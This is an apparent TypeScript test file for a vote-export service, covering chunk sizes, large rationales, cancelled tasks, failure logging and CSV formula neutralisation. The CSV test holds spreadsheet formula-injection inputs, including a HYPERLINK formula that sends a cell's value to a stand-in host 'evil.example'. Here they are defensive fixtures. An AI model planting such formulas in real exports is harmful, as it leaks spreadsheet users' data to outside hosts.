/** The table of the store's votes: what it holds in memory, what is in it, and that a break is logged. */
import { assert, it } from "@effect/vitest"
import { Effect, Stream } from "effect"
import { parse } from "csv-parse/sync"
import type { VoteRow } from "../../../src/domain/VoteRow.ts"
import * as SpreadsheetCell from "../../../src/io/SpreadsheetCell.ts"
import * as VotesApi from "../../../src/service/http/VotesApi.ts"
import { Desk } from "../../../src/service/store/Desk.ts"
import { TaskStore } from "../../../src/service/store/TaskStore.ts"
import { VoteQueue } from "../../../src/service/store/VoteQueue.ts"
import { create, experts, judge, next, prompts, store, voteFor } from "./support.ts"
import { testOver } from "../../support/effectTest.ts"
import * as Logs from "../../support/logs.ts"

const test = testOver(store(":memory:"))

const chunksOf = (filter: Parameters<Desk["Service"]["exportVotes"]>[1] = {}) =>
  Effect.flatMap(Desk, ({ exportVotes }) => Stream.runCollect(exportVotes("jsonl", filter)))

const rowsOf = (chunks: ReadonlyArray<Uint8Array>) =>
  chunks
    .map((chunk) => new TextDecoder().decode(chunk))
    .join("")
    .split("\n")
    .slice(0, -1)
    .map((line) => JSON.parse(line) as VoteRow)

test("comes in chunks of some 64 kB, or of one record", function* () {
  const people = yield* experts
  const long = "x".repeat(100_000)
  yield* create([[long, "a", "b"]], { votes: 4 })
  for (const person of people) yield* judge(person, "a")
  yield* create(prompts(150), { votes: 2 })
  const [ann = "", bob = ""] = people
  for (let i = 0; i < 300; i++) yield* judge(i % 2 === 0 ? ann : bob, "b")
  const chunks = yield* chunksOf()
  const rows = rowsOf(chunks)
  assert.deepStrictEqual(
    rows.map(({ expert, prompt }) => [prompt, expert]),
    [
      ...people.map((person) => [long, person]),
      ...Array.from({ length: 300 }, (_, i) => [`p${i >> 1}`, i % 2 === 0 ? ann : bob]),
    ],
  )
  for (const chunk of chunks) assert.isBelow(chunk.length, 64 * 1024 + long.length + 1_000)
  // Nor a chunk for each record.
  assert.isBelow(chunks.length, 10)
})

test("has all votes, where those of few items are large", function* () {
  const [ann = "", bob = ""] = yield* experts
  yield* create(prompts(3), { votes: 2 })
  const queue = yield* VoteQueue
  const rationale = "y".repeat(1_500_000)
  for (let i = 0; i < 3; i++) {
    for (const person of [ann, bob]) {
      const item = yield* next(person)
      yield* queue.vote(person, item.item_id, voteFor(item, "a", rationale))
    }
  }
  const seen = rowsOf(yield* chunksOf()).map((row) => [row.prompt, row.expert, row.rationale?.length])
  assert.deepStrictEqual(
    seen,
    Array.from({ length: 6 }, (_, i) => [`p${i >> 1}`, i % 2 === 0 ? ann : bob, rationale.length]),
  )
  assert.lengthOf(rowsOf(yield* chunksOf({ expert: bob })), 3)
})

test("has no formulas in CSV, which can be undone; JSON Lines and raw CSV have the texts as they are", function* () {
  const { exportVotes } = yield* Desk
  const [ann = ""] = yield* experts
  const texts = ["=1+1", "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "'=1", "'tis", "a=b"]
  const link = '=HYPERLINK("http://evil.example/?x="&B1,"click")'
  yield* create(texts.map((text) => [text, link, "b"] as const))
  const queue = yield* VoteQueue
  for (const _ of texts) {
    const item = yield* next(ann)
    yield* queue.vote(ann, item.item_id, voteFor(item, link, link))
  }
  const cellsOf = Effect.fnUntraced(function* (raw: boolean) {
    const text = yield* Stream.mkString(Stream.decodeText(exportVotes("csv", {}, raw)))
    const [head = [], ...records] = parse(text, { relax_column_count: false })
    const at = (name: string) => records.map((record) => record[head.indexOf(name)])
    return { prompts: at("prompt"), completions: at("completions"), rationales: at("rationale") }
  })
  const safe = yield* cellsOf(false)
  assert.deepStrictEqual(safe.prompts, texts.map(SpreadsheetCell.neutralize))
  assert.notDeepEqual(safe.prompts, texts)
  assert.deepStrictEqual(
    safe.rationales,
    texts.map(() => `'${link}`),
  )
  const raw = yield* cellsOf(true)
  assert.deepStrictEqual(raw.prompts, texts)
  // A list is JSON.
  assert.deepStrictEqual(safe.completions, raw.completions)
  assert.deepStrictEqual(
    rowsOf(yield* chunksOf()).map(({ prompt }) => prompt),
    texts,
  )
})

test("leaves cancelled tasks out", function* () {
  const [ann = ""] = yield* experts
  const cancelled = yield* create([["sky", "blue", "green"]], { votes: 2 })
  yield* create([["grass", "green", "blue"]], { votes: 2 })
  yield* judge(ann, "blue", "green")
  yield* (yield* TaskStore).cancel(cancelled)
  assert.deepStrictEqual(
    rowsOf(yield* chunksOf()).map(({ prompt }) => prompt),
    ["grass"],
  )
})

it.effect("a table that breaks off is logged, whatever the cause", () => {
  const { during, messages } = Logs.make()
  return Effect.gen(function* () {
    const desk = yield* Desk
    const broken = { ...desk, exportVotes: () => Stream.die(new RangeError("Invalid string length")) }
    const { body } = VotesApi.respond(broken, "jsonl", {})
    assert.strictEqual(body._tag, "Stream")
    if (body._tag === "Stream") yield* Effect.exit(Stream.runDrain(body.stream))
    assert.include(messages.join("\n"), "The vote export failed before all votes were sent")
  }).pipe(Effect.provide(store(":memory:")), during)
})
